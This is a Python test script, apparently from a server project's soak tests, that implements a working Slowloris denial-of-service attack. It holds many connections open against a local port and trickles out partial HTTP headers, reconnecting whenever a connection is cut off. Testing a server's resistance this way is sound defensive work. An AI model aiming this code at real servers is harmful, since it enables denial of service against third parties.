"""The slow ones: `python -m tests.soak.lorises PORT COUNT SECONDS` (Slowloris, ATTACKS 8).

Each connection sends the head of a request, an octet every so many seconds, and when it is cut off comes again. Says
"standing" when all have come, ends with its stdin, and then says how often one was cut off.
"""

from __future__ import annotations

import resource
import selectors
import socket
import sys
import time
from contextlib import suppress
from typing import Final

HEAD: Final = b"GET http://93.184.216.34/ HTTP/1.1\r\nHost: 93.184.216.34\r\nX-Slow: " + b"s" * 1000


class Loris:
    """One of them. due: when it says the next octet."""

    def __init__(self, port: int, due: float) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.settimeout(0)
        self.said = 0
        self.due = due

    def say(self, now: float, seconds: float) -> None:
        """The next octet."""
        with suppress(OSError):  # cut off; that is heard as well
            self.sock.send(HEAD[self.said : self.said + 1])
        self.said += 1
        self.due = now + seconds

    def is_cut_off(self) -> bool:
        """What was heard: an end, or a refusal that an end follows."""
        try:
            return not self.sock.recv(65536)
        except BlockingIOError:
            return False
        except OSError:
            return True


def main(port: int, count: int, seconds: float) -> None:
    """Be slow until stdin ends."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ears = selectors.DefaultSelector()
    ears.register(sys.stdin, selectors.EVENT_READ)
    cut_off = 0

    def come(due: float) -> Loris:
        loris = Loris(port, due)
        ears.register(loris.sock, selectors.EVENT_READ, loris)
        return loris

    began = time.monotonic()
    lorises = {come(began + seconds * number / count) for number in range(count)}
    print("standing", flush=True)  # noqa: T201 - read by who started us
    while True:
        for key, _ in ears.select(0.05):
            if key.fileobj is sys.stdin:
                print(cut_off)  # noqa: T201 - the same
                return
            loris: Loris = key.data
            if loris.is_cut_off():
                cut_off += 1
                ears.unregister(loris.sock)
                loris.sock.close()
                lorises.remove(loris)
                lorises.add(come(loris.due))
        now = time.monotonic()
        for each in lorises:
            if each.due <= now:
                each.say(now, seconds)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]))
